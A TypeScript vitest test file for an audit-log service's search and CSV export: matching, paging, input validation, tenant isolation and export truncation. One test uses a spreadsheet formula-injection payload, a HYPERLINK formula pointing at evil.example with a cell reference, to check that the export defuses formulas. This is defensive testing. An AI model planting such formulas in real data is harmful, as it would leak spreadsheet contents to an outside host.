import { once } from 'node:events'
import type { ServerResponse } from 'node:http'
import { connect } from 'node:net'
import { appApiBase } from '@parapet/contract'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import { holdTimers } from '../../../../test/held-timers.ts'
import { createPerson, type Visitor } from '../../../../test/web-visitor.ts'
import { createWorld, expectError, type TestOrganization, useWorld, type World } from '../../../../test/world.ts'
import { auditTrails } from '../../../features.ts'
import { newId } from '../../../platform/crypto/random.ts'
import { httpLimits } from '../../../platform/http/limits/http-limits.ts'
import { openBook } from './audit-book.ts'
import { exportAuditLog } from './export-audit.ts'

let world: World
let org: TestOrganization
let admin: { id: string; visitor: Visitor }
beforeAll(async () => {
  world = await createWorld()
  org = await world.organization()
  admin = await createPerson(world, org, { role: 'org_admin' })
})
afterAll(() => world?.close())

type Entry = { id: string; action: string; subjectId: string | null; actorName: string }

const search = async (word: string, more = '') =>
  (await admin.visitor.call('GET', `/audit-log/search?search=${encodeURIComponent(word)}${more}`)).body as Entry[]

async function addLines(
  world: World,
  org: TestOrganization,
  action: string,
  count: number,
  text = '',
  actorId: string | null = null,
): Promise<void> {
  const lines = Array.from({ length: count }, () => ({
    id: newId(),
    created_at: new Date(),
    actor_type: 'system',
    actor_id: actorId,
    action,
    subject_type: 'line',
    details: { text },
  }))
  await world.database.pool.query('select append_audit_lines($1, $2)', [org.id, JSON.stringify(lines)])
}

describe('a search of the log', () => {
  test('matches action, subject and actor, ignores case, and finds nothing else', async () => {
    const team = (await org.request('POST', '/teams', { name: 'Platform' })).body
    const isTeamLine = ({ action }: Entry) => action === 'team.created'

    for (const word of ['team.cre', 'TEAM.CREATED', ' team.created ', team.id, team.id.slice(0, 20), 'test KEY']) {
      expect((await search(word)).some(isTeamLine), word).toBe(true)
    }
    expect((await search('grace')).map(({ actorName }) => actorName)).toContain('Grace Sample')
    expect((await search('operator')).every(({ actorName }) => actorName === 'Operator')).toBe(true)
    expect(await search('no such word')).toEqual([])
  })

  test('distinguishes actions of the service from actions of the operator', async () => {
    await addLines(world, org, 'line.by_worker', 1, '', 'worker:webhooks')
    await addLines(world, org, 'line.by_operator', 1)
    const named = (await search('line.by_')).map(({ action, actorName }) => [action, actorName])

    expect(named.toSorted()).toEqual([
      ['line.by_operator', 'Operator'],
      ['line.by_worker', 'Parapet'],
    ])
    expect((await search('parapet')).map(({ action }) => action)).toEqual(['line.by_worker'])
    expect((await search('operator')).map(({ action }) => action)).not.toContain('line.by_worker')
  })

  test.each(['%', '_', '\\', "'", '100%'])('matches %j literally, not as a pattern', async (word) => {
    const found = await search(word)

    expect(found.every((entry) => JSON.stringify(entry).includes(word))).toBe(true)
  })

  test('continues from a line, without gaps or repeats', async () => {
    await addLines(world, org, 'line.paged', 23)
    const pages: Entry[] = []
    for (let page = await search('paged', '&limit=5'); page.length > 0; ) {
      pages.push(...page)
      page = await search('paged', `&limit=5&before=${page.at(-1)?.id}`)
    }

    expect(pages).toEqual(await search('paged', '&limit=500'))
    expect(pages).toHaveLength(23)
  })

  test('without a word returns the whole log', async () => {
    const { body } = await admin.visitor.call('GET', '/audit-log/search?search=')

    expect(body.map(({ id }: Entry) => id)).toEqual(
      ((await admin.visitor.call('GET', '/audit-log')).body as Entry[]).map(({ id }) => id),
    )
  })

  test.each(['search', 'actor', 'action', 'subject'])(
    'with a NUL in %s is refused, without an internal error',
    async (name) => {
      const path = `/audit-log/search?${name}=${encodeURIComponent('a\u0000b')}`
      const refused = expectError(await admin.visitor.call('GET', path), 400, 'invalid_request')

      expect(refused).toMatchObject({ field: name, message: 'must not contain the NUL character' })
    },
  )

  test('refuses a word that is too long', async () => {
    const answer = await admin.visitor.call('GET', `/audit-log/search?search=${'x'.repeat(201)}`)

    expect(expectError(answer, 400, 'invalid_request')).toMatchObject({ field: 'search' })
  })
})

describe('the log as a file', () => {
  const download = (query = '', visitor = admin.visitor) => visitor.call('GET', `/audit-log/export${query}`)

  test('is a CSV download with one row for each line of the log', async () => {
    const { headers, text } = await download()
    const entries = (await admin.visitor.call('GET', '/audit-log?limit=500')).body as Entry[]
    const [first, ...lines] = text.trimEnd().split('\r\n')

    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(headers.get('content-disposition')).toBe('attachment; filename="audit-log.csv"')
    expect(headers.get('cache-control')).toBe('no-store')
    expect(first?.replace('\uFEFF', '')).toBe(
      'createdAt,actorType,actorId,actorName,action,subjectType,subjectId,details,requestId,id,subjectName,sentence',
    )
    expect(lines).toHaveLength(entries.length)
    expect(lines.map((line, index) => line.includes(`,${entries[index]?.id},`))).not.toContain(false)
  })

  test('contains only what was searched for', async () => {
    await addLines(world, org, 'line.exported', 3)
    const { text } = await download('?search=exported')

    expect(text.trimEnd().split('\r\n')).toHaveLength(4)
  })

  test('contains no formulas, whatever the names of people and keys', async () => {
    const name = '=HYPERLINK("https://evil.example/"&A1)'
    const { key } = await org.createKey(['teams:write'], { name })
    await org.request('POST', '/teams', { name: 'Formula' }, { key })
    const { text } = await download('?search=team.created')

    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/""&A1)"`)
    expect(text).not.toMatch(/(^|,)"?[=+\-@]/m)
  })

  test('contains nothing of another organization', async () => {
    const other = await world.organization()
    const { visitor } = await createPerson(world, other, { role: 'org_admin' })
    await addLines(world, org, 'line.hidden', 1)

    expect((await download('?search=line.', visitor)).text).not.toContain('line.hidden')
    expect((await download('', visitor)).text).not.toContain(org.keyId)
  })
})

describe('a log that is very long', () => {
  test('is cut, and the last line says so', async () => {
    const org = await world.organization()
    await addLines(world, org, 'line.many', 12)
    const collect = async (maxLines: number) => {
      let text = ''
      for await (const piece of exportAuditLog(org.context(), openBook(auditTrails), { search: 'many' }, maxLines))
        text += piece
      return text.trimEnd().split('\r\n')
    }

    const cut = await collect(10)
    expect(cut).toHaveLength(12)
    expect(cut.at(-1)).toBe('(older lines are left out: a file has at most 10)')
    expect(await collect(12), 'nothing is left out').toHaveLength(13)
  })

  test('is no longer produced for a client that does not read it', async () => {
    const world = await useWorld()
    const org = await world.organization()
    const { visitor } = await createPerson(world, org, { role: 'org_admin' })
    await addLines(world, org, 'line.long', 3000, 'x'.repeat(10_000))
    const { hostname, port } = new URL(world.url)
    // The test triggers the time limit itself, after the file has begun.
    const limit = holdTimers(httpLimits.fileHandlerTimeoutMs)
    // As many exports as an organization may run at once. Each fills the network buffers, then the service waits.
    for (let n = 0; n < 2; n++) {
      const requested = once(world.http.fastify.server, 'request')
      const socket = connect(Number(port), hostname).on('error', () => {})
      onTestFinished(() => void socket.destroy())
      const head = `GET ${appApiBase}/audit-log/export HTTP/1.1\r\nHost: x\r\nCookie: ${visitor.cookie}\r\n\r\n`
      socket.pause().write(head)
      const [, response] = (await requested) as [unknown, ServerResponse]
      const closed = once(response, 'close')
      await expect.poll(() => response.writableNeedDrain).toBe(true)
      limit.fire()
      await closed
      expect(response.writableFinished, 'the file was cut').toBe(false)
    }

    const noise = world.logLines.filter((line) => line.includes('already sent'))
    expect(noise, 'an answer after the answer').toEqual([])
    expect((await world.request('GET', '/healthz')).status).toBe(200)
    expect((await visitor.call('GET', '/audit-log/export?search=session')).status, 'their places are free').toBe(200)
  })
})
